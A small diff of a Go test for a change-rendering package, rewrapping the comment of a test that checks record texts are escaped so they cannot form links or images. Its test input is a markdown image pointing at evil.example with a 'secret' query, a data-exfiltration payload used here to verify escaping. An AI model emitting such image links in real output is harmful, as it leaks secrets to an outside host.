@@ -9,7 +9,8 @@ import (
 	"github.com/bailiwick-dev/bailiwick/change"
 )
 
-// TestInert checks that texts of records make no link, image or element in the text of a change, and that other texts stay as they are.
+// TestInert checks that texts of records make no link, image or element in the text of a change. Other texts must stay
+// as they are.
 func TestInert(t *testing.T) {
 	for _, tt := range [][2]string{
 		{"![x](https://evil.example/?q=secret)", `!\[x]\(https\://evil.example/?q=secret)`},
